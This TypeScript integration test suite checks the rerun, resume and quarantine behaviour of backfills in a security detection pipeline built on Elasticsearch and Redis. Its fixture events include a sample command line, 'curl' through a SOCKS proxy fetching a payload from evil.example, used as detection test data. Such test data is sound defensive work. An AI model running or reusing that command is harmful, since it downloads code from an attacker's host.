import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { Client } from '@elastic/elasticsearch';
import type { Redis } from 'ioredis';
import { chunkJobId } from '../../src/aggregate/backfill.js';
import { emptyStats } from '../../src/aggregate/processor.js';
import { redisKeys } from '../../src/aggregate/redis-keys.js';
import { createApp, startWorker, type App } from '../../src/app.js';
import { silentLogger } from '../../src/telemetry/logger.js';
import { spawnCli } from '../helpers/child-worker.js';
import { defendEvent, type ProcessSpec } from '../helpers/ecs-events.js';
import { cleanup, createSourceIndex, indexDocs, readFindings, testConfig, testNames, waitFor, type FindingSummary } from '../helpers/pipeline.js';
import { testEsClient, testRedis } from '../helpers/services.js';

// Needs: a real Elasticsearch and Redis, and the built CLI (npm run build). Asking again for a
// finished backfill scans its range again as the next run (events that arrived since are
// counted, the rest changes nothing); asking again for an unfinished one resumes it. The CLI
// says which.

const day = '2026-10-05';
const at = (hhmm: string) => `${day}T${hhmm}:00.000Z`;
const proxied = 'curl -x socks5h://10.0.0.5:1080 https://evil.example/payload';
const other = 'curl --proxy http://10.0.0.7:3128 https://a.example/';

function event(id: string, time: string, commandLine: string, pid: number): { id: string; doc: Record<string, unknown> } {
  const spec: ProcessSpec = { time: at(time), host: 'web-1', user: 'alice', commandLine, pid, ppid: 4000 };
  return { id, doc: defendEvent(spec) };
}

type Summary = Omit<FindingSummary, 'id' | 'version'>;
const finding = (commandLine: string, pid: number, count: number, start: string, end: string): Summary => ({
  host: 'web-1',
  user: 'alice',
  parent: 'bash',
  commandLine,
  pid,
  count,
  start: at(start),
  end: at(end),
});

async function cli(config: ReturnType<typeof testConfig>, args: string[]) {
  const child = spawnCli(config, args);
  const code = await child.exited;
  return { code, output: child.output() };
}

/** Findings without id and version, by first time. */
async function summaries(es: Client, alias: string): Promise<Summary[]> {
  return (await readFindings(es, alias)).map(({ id: _i, version: _v, ...f }) => f).sort((a, b) => a.start.localeCompare(b.start));
}

/** The JSON progress lines a non-TTY `backfill --wait` prints. */
function progress(output: string): Record<string, unknown>[] {
  return output
    .split('\n')
    .filter((l) => l.startsWith('{"backfill"'))
    .map((l) => JSON.parse(l) as Record<string, unknown>);
}

describe('a backfill asked for again', () => {
  const names = testNames('rerun');
  const index = names.index('defend');
  let es: Client;
  let redis: Redis;
  let app: App;
  let config: ReturnType<typeof testConfig>;
  const range = ['--from', at('10:00'), '--to', at('13:00')];
  let id = '';

  before(async () => {
    es = testEsClient();
    redis = testRedis();
    await createSourceIndex(es, index);
    await indexDocs(es, index, [event('e1', '10:10', proxied, 4242), event('e2', '11:20', other, 4300)]);
    config = testConfig(names, { 'backfill.chunkCandidates': 0 });
    app = createApp(config, silentLogger());
  });
  after(async () => {
    await app.close();
    await cleanup(es, redis, names);
    redis.disconnect();
    await es.close();
  });

  it('scans a finished backfill again as its next run: late events are counted, the rest is unchanged, and it says rescanning', { timeout: 180_000 }, async () => {
    const first = await cli(config, ['backfill', ...range, '--wait']);
    assert.equal(first.code, 0, first.output);
    id = /created backfill (bf-[0-9a-f]{12}): .* in 3 chunk\(s\), 3 queued/.exec(first.output)?.[1] ?? '';
    assert.notEqual(id, '', first.output);
    const firstDone = progress(first.output).at(-1);
    assert.deepEqual([firstDone?.status, firstDone?.run, firstDone?.chunks_done, firstDone?.matched, firstDone?.findings], ['done', 1, 3, 2, 2]);
    const before = await readFindings(es, names.alias);
    assert.deepEqual(await summaries(es, names.alias), [finding(proxied, 4242, 1, '10:10', '10:10'), finding(other, 4300, 1, '11:20', '11:20')]);

    // Late data in the range: one more event of the 10:00 group, and a group of its own at 12:00.
    await indexDocs(es, index, [event('late1', '10:50', proxied, 4242), event('late2', '12:05', proxied, 4242)]);

    const again = await cli(config, ['backfill', ...range, '--wait']);
    assert.equal(again.code, 0, again.output);
    assert.match(again.output, new RegExp(`^rescanning finished backfill ${id} \\(run 2\\): .* in 3 chunk\\(s\\), 3 queued; run 1 had 3 chunk\\(s\\) done, scanned \\d+, matches 2, findings 2$`, 'm'));
    const secondDone = progress(again.output).at(-1);
    // The figures are the new run's own: every event of the range, counted again.
    assert.deepEqual([secondDone?.status, secondDone?.run, secondDone?.chunks_done, secondDone?.matched], ['done', 2, 3, 4]);
    assert.deepEqual((secondDone?.previous_run as Record<string, unknown>)?.matched, 2);

    const afterRescan = await readFindings(es, names.alias);
    assert.deepEqual(await summaries(es, names.alias), [finding(proxied, 4242, 2, '10:10', '10:50'), finding(other, 4300, 1, '11:20', '11:20'), finding(proxied, 4242, 1, '12:05', '12:05')]);
    // The group no late event touched is the same document, at the same version.
    const untouched = (f: FindingSummary[]) => f.find((x) => x.commandLine === other);
    assert.equal(untouched(afterRescan)?.id, untouched(before)?.id);
    assert.equal(untouched(afterRescan)?.version, untouched(before)?.version);

    const list = await cli(config, ['backfill', 'list']);
    assert.match(list.output, new RegExp(`${id}\\s+done\\s+.* run 2  chunks 3/3 .* matches 4 `));
    assert.match(list.output, /\n {2}previous run 1 finished \S+: chunks 3\/3 {2}scanned \d+ {2}matches 2 {2}suppressed 0 {2}findings 2/);
  });

  it('starts one new run between two requests that race for the same finished backfill', { timeout: 120_000 }, async () => {
    const req = { fromMs: Date.parse(at('10:00')), toMs: Date.parse(at('13:00')), indexPatterns: [...config.source.indexPatterns] };
    assert.equal(app.backfills.idFor(req), id);
    const outcomes = await Promise.all([app.backfills.create(req), app.backfills.create(req), app.backfills.create(req)]);
    assert.deepEqual(outcomes.map((o) => o.action).sort(), ['rescanning', 'resuming', 'resuming']);
    assert.deepEqual(outcomes.map((o) => o.record.run), [3, 3, 3]);
    // Each chunk of run 3 is queued once (job ids of their own; BullMQ keeps one job per id).
    const jobs = await app.backfillQueue.getJobs(['waiting', 'delayed', 'prioritized', 'active']);
    assert.deepEqual(jobs.map((j) => j.id).sort(), [0, 1, 2].map((n) => chunkJobId(id, 3, n)).sort());

    const worker = await startWorker(app, { live: false, backfill: true });
    try {
      const done = await waitFor('run 3 to finish', () => app.backfills.get(id), (r) => r?.status === 'done', 90_000);
      assert.equal(done?.stats.matched, 4);
    } finally {
      await worker.stop();
    }
    assert.equal((await readFindings(es, names.alias)).length, 3);
  });

  it('counts nothing a chunk job of an earlier run still reports', async () => {
    const record = await app.backfills.get(id);
    assert.equal(record?.run, 3);
    assert.equal(await app.backfills.chunkStarting(id, 2), false);
    assert.equal(await app.backfills.chunkDone(id, 2, 0, { ...emptyStats(), scanned: 1_000, matched: 1_000 }), -2);
    assert.deepEqual((await app.backfills.get(id))?.stats, record?.stats);
  });
});

describe('an interrupted backfill asked for again', () => {
  const names = testNames('resume');
  const index = names.index('defend');
  let es: Client;
  let redis: Redis;
  let config: ReturnType<typeof testConfig>;

  before(async () => {
    es = testEsClient();
    redis = testRedis();
    await createSourceIndex(es, index);
    // One-minute chunks: 120 of them, so the first process is killed well before the end.
    await indexDocs(es, index, [event('e1', '10:05', proxied, 4242), event('e2', '10:35', proxied, 4242), event('e3', '11:40', other, 4300)]);
    config = testConfig(names, { 'backfill.chunkMs': 60_000, 'backfill.chunkCandidates': 0, 'worker.backfillConcurrency': 1 });
  });
  after(async () => {
    await cleanup(es, redis, names);
    redis.disconnect();
    await es.close();
  });

  it('resumes where a killed process stopped, says resuming, and ends with exact findings', { timeout: 240_000 }, async () => {
    // childArgs passes only the keys every test sets: these two go as flags.
    const range = ['--set', 'backfill.chunkMs=60000', '--set', 'backfill.chunkCandidates=0', '--set', 'worker.backfillConcurrency=1', 'backfill', '--from', at('10:00'), '--to', at('12:00')];
    const first = spawnCli(config, [...range, '--wait']);
    const id = await waitFor('the backfill id', async () => /created backfill (bf-[0-9a-f]{12})/.exec(first.output())?.[1], (v) => v !== undefined, 60_000);
    const hash = redisKeys(names.keyPrefix).backfill(id as string);
    await waitFor('a first chunk done', async () => Number(await redis.hget(hash, 'chunksDone')), (n) => n >= 1, 60_000, 20);
    await first.kill('SIGKILL');
    const doneAtKill = Number(await redis.hget(hash, 'chunksDone'));
    assert.ok(doneAtKill < 120, `the first process finished all ${doneAtKill} chunks before it was killed`);

    const again = await cli(config, [...range, '--wait']);
    assert.equal(again.code, 0, again.output);
    const resumed = new RegExp(`^resuming unfinished backfill ${id as string} \\(run 1\\): .* in 120 chunk\\(s\\), \\d+ queued, (\\d+) done$`, 'm').exec(again.output);
    assert.ok(resumed !== null, again.output);
    assert.ok(Number(resumed[1]) >= doneAtKill, again.output);
    const last = progress(again.output).at(-1);
    assert.deepEqual([last?.status, last?.run, last?.chunks_done, last?.matched], ['done', 1, 120, 3]);
    assert.deepEqual(await summaries(es, names.alias), [finding(proxied, 4242, 2, '10:05', '10:35'), finding(other, 4300, 1, '11:40', '11:40')]);
  });
});

describe('a finished backfill with quarantined chunks asked for again', () => {
  const names = testNames('rerunq');
  let es: Client;
  let redis: Redis;
  let app: App;

  before(async () => {
    es = testEsClient();
    redis = testRedis();
    // An index pattern Elasticsearch refuses with 400: every chunk fails the same way every time.
    app = createApp(testConfig(names, { 'worker.jobAttempts': 2, 'backfill.chunkCandidates': 0 }), silentLogger());
  });
  after(async () => {
    await app.close();
    await cleanup(es, redis, names);
    redis.disconnect();
    await es.close();
  });

  it('tries the quarantined chunks again in the new run and drops the old run\'s failed jobs', { timeout: 180_000 }, async () => {
    const req = { fromMs: Date.parse(at('00:00')), toMs: Date.parse(at('02:00')), indexPatterns: ['_refused'] };
    const worker = await startWorker(app, { live: false, backfill: true });
    try {
      const { record } = await app.backfills.create(req);
      const first = await waitFor('run 1 to finish', () => app.backfills.get(record.id), (r) => r?.status === 'done', 90_000);
      assert.deepEqual([first?.chunksQuarantined, first?.chunksDone], [2, 0]);
      assert.equal((await app.backfillQueue.getJobs(['failed'])).length, 2);

      const again = await app.backfills.create(req);
      assert.equal(again.action, 'rescanning');
      assert.deepEqual([again.record.run, again.record.chunksQuarantined, again.record.previousRun?.chunksQuarantined], [2, 0, 2]);
      // Run 1's failed jobs are gone; run 2's chunks are queued under ids of their own.
      const failed = await app.backfillQueue.getJobs(['failed']);
      assert.ok(failed.every((j) => j.id?.includes('-r2-')), JSON.stringify(failed.map((j) => j.id)));
      const second = await waitFor('run 2 to finish', () => app.backfills.get(record.id), (r) => r?.status === 'done', 90_000);
      assert.deepEqual([second?.run, second?.chunksQuarantined, second?.chunksDone], [2, 2, 0]);
    } finally {
      await worker.stop();
    }
  });
});
